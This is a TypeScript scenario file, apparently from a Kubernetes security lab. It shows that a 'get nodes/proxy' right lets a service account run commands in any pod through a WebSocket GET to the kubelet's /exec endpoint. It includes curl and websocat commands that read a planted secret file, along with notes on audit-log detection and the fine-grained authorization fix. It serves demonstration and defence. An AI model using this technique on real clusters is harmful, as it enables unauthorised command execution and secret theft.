import { addresses, ports } from '../addresses';
import { curl } from './curl';
import { execAtKubelet } from './exec-at-kubelet';
import type { Scenario } from './scenario';

const resources = { open: 'nodes/proxy', fixed: 'nodes/pods' };
const FILE = '/run/secrets/canary';

export const getNodesProxy: Scenario = {
  id: 'get-nodes-proxy',
  title: 'a right to get nodes/proxy, which runs commands',
  story:
    'An agent that looks at kubelets is given get on nodes/proxy, which sounds like reading. A kubelet makes the verb out of the HTTP method, and the upgrade to a WebSocket is a GET: /exec opens to whoever may get, in every pod of every node, while a POST to /run is refused. Kubernetes says that this is as it was meant. Since KubeletFineGrainedAuthz there are smaller rights: nodes/pods, nodes/healthz, nodes/configz.',
  needs: 'The token of a service account that may get nodes/proxy, and a way to port 10250.',
  evidence:
    'The output of the command that was run by the upgrade, with the random word out of the container’s file; the POST beside it is refused in the kubelet’s own words.',
  attack: ['T1609', 'T1078'],
  setting: {
    name: 'resources in the ClusterRole of the agent (verbs: get)',
    open: resources.open,
    fixed: `${resources.fixed} (KubeletFineGrainedAuthz, on since 1.33)`,
  },
  notice:
    'Whoever goes to port 10250 himself is in no audit log but by the SubjectAccessReview of the kubelet: verb get, nodes/proxy, in the name of the agent. The kubelet’s own log has a GET of /exec by the agent, from an address that is no apiserver’s, and no pods/exec in the audit log goes with it. kubectl get clusterroles -o yaml shows who has nodes/proxy.',
  sources: [
    'pkg/kubelet/server/auth.go',
    'kubernetes/kubernetes#83465 and #136550',
    'KEP-2862 (fine-grained kubelet API authorization)',
  ],
  async play(stage, twin) {
    const cluster = await stage.cluster();
    const { signal } = stage;
    const secret = `S3CRET-${stage.random.hex(6)}`;
    cluster.container({ namespace: 'default', pod: 'web', container: 'web' }).plant(secret);
    await stage.did('admin', 'kubectl run web', 'pod/web runs on node-1 and holds a secret in a file');
    const token = await cluster.credentials.token({
      namespace: 'monitoring',
      name: 'agent',
      rules: [{ apiGroups: [''], resources: [resources[twin]], verbs: ['get'] }],
    });
    const grant = `kubectl create clusterrole agent --verb=get --resource=${resources[twin]}`;
    await stage.did('admin', grant, 'clusterrole.rbac.authorization.k8s.io/agent created, and bound');

    const kubelet = `https://${addresses.node1}:${ports.kubelet}`;
    const pods = await curl(cluster.workstation, `${kubelet}/pods`, { token, signal });
    if (!pods.ok) throw new Error(`the agent cannot do its work: ${pods.words}`);
    const { items } = JSON.parse(pods.body) as { items: readonly unknown[] };
    await stage.did(
      'agent',
      'curl -k -H "Authorization: Bearer …" https://node-1:10250/pods',
      `${items.length} pods`,
    );

    const run = await curl(cluster.attackerHost, `${kubelet}/run/default/web/web?cmd=id`, {
      method: 'POST',
      token,
      signal,
    });
    const post =
      'curl -k -XPOST -H "Authorization: Bearer …" "https://node-1:10250/run/default/web/web?cmd=id"';
    if (run.ok) await stage.gained('attacker', post, run.body.trim(), 'a command run in default/web');
    else await stage.refused('attacker', post, run.words);

    const path = `/exec/default/web/web?command=cat&command=${FILE}&output=1`;
    const executed = await execAtKubelet(cluster.attackerHost, addresses.node1, { path, token, signal });
    const upgrade =
      'websocat -k -H "Authorization: Bearer …" "wss://node-1:10250/exec/default/web/web?command=cat…"';
    if (executed.text.includes(secret)) {
      await stage.gained(
        'attacker',
        upgrade,
        executed.text,
        'a command run in default/web by a GET, and its secret',
      );
    } else await stage.refused('attacker', upgrade, executed.text);
  },
};
